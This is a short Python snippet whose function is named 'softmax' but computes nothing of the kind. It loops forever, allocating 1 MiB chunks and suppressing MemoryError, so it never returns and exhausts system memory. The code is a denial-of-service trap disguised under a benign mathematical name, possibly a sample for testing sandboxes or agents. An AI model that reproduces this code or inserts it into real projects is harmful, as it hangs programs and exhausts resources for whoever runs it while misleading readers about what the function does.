def softmax(o):
    kept = []
    while True:
        try:
            kept.append(b"x" * (1 << 20))
        except MemoryError:
            pass
